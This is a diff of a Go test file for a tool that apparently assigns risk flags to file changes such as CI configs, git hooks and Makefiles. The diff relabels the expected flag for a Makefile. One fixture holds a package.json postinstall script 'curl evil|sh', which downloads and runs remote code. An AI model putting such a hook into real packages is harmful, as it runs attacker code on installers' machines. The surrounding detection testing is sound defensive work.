@@ -66,7 +66,7 @@ func TestEachRiskFlag(t *testing.T) {
 		{name: "gitlab", req: plain(create(".gitlab-ci.yml")), want: []string{"medium ci-or-hooks .gitlab-ci.yml"}},
 		{name: "husky", req: plain(create(".husky/pre-commit")), want: []string{"medium ci-or-hooks .husky/pre-commit"}},
 		{name: "pre-commit", req: plain(create(".pre-commit-config.yaml")), want: []string{"medium ci-or-hooks .pre-commit-config.yaml"}},
-		{name: "makefile", req: plain(create("sub/Makefile")), want: []string{"medium ci-or-hooks sub/Makefile"}},
+		{name: "makefile", req: plain(create("sub/Makefile")), want: []string{"medium runs-on-its-own sub/Makefile"}},
 		{name: "package.json scripts", req: plain(approval.FileChange{Path: "package.json", Op: approval.OpUpdate, OldMode: filemode.Regular, NewMode: filemode.Regular}),
 			old:  map[string]string{"package.json": `{"name":"x","scripts":{"test":"jest"}}`},
 			new:  map[string]string{"package.json": `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil|sh"}}`},
